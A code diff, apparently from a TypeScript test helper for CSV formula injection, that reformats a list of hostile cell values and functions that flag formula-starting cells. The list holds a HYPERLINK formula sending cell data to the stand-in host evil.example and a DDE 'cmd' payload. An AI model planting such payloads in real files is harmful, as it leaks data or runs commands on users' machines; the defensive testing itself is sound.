@@ -23,7 +23,7 @@ export const HOSTILE_TEXTS = [
   '=HYPERLINK("http://evil.example/?"&A1;"x")',
   "-2+3+cmd|' /C calc'!A0",
   '=1+2";=1+2',
-  "=1+2'\" ;,=1+2",
+  '=1+2\'" ;,=1+2',
   'ACME; =2*3',
   'ACME;\u00A0+2',
   'ACME;"=2*3"',
@@ -41,7 +41,31 @@ export const HOSTILE_TEXTS = [
 ];
 
 /** The characters hostile names are fuzzed from: every trigger, separator, space and quote, and some letters. */
-export const HOSTILE_ALPHABET = ['=', '+', '-', '@', '＝', '＋', ';', ',', '\t', '\r', '\n', ' ', '\u00A0', '\u3000', '\u200B', '"', "'", 'a', '1', '.', '(', '*', '|'];
+export const HOSTILE_ALPHABET = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '＝',
+  '＋',
+  ';',
+  ',',
+  '\t',
+  '\r',
+  '\n',
+  ' ',
+  '\u00A0',
+  '\u3000',
+  '\u200B',
+  '"',
+  "'",
+  'a',
+  '1',
+  '.',
+  '(',
+  '*',
+  '|',
+];
 
 const FORMULA_START = /^[\s\u200B-\u200D\u2060"]*[=+\-@＝＋－＠]/;
 const PLAIN_NUMBER = /^\s*-?\d+(\.\d+)?\s*$/;
@@ -51,14 +75,24 @@ export function spreadsheetReadings(csv: string): Array<{ how: string; cells: st
   const text = csv.replace(/^\uFEFF/, '');
   const out: Array<{ how: string; cells: string[] }> = [];
   for (const delimiter of [',', ';', '\t']) {
-    out.push({ how: `${JSON.stringify(delimiter)} with quotes`, cells: Papa.parse<string[]>(text, { delimiter }).data.flat() });
+    out.push({
+      how: `${JSON.stringify(delimiter)} with quotes`,
+      cells: Papa.parse<string[]>(text, { delimiter }).data.flat(),
+    });
     const lines = text.split(/\r\n|\r|\n/);
-    out.push({ how: `${JSON.stringify(delimiter)} split naively`, cells: lines.flatMap((line) => line.split(delimiter)) });
+    out.push({
+      how: `${JSON.stringify(delimiter)} split naively`,
+      cells: lines.flatMap((line) => line.split(delimiter)),
+    });
   }
   return out;
 }
 
 /** The cells of any reading that start (after whitespace and quotes) with = + - @ and are no plain number, named by reading. */
 export function formulaCells(csv: string): string[] {
-  return spreadsheetReadings(csv).flatMap(({ how, cells }) => cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell)).map((cell) => `${how}: ${JSON.stringify(cell)}`));
+  return spreadsheetReadings(csv).flatMap(({ how, cells }) =>
+    cells
+      .filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))
+      .map((cell) => `${how}: ${JSON.stringify(cell)}`),
+  );
 }
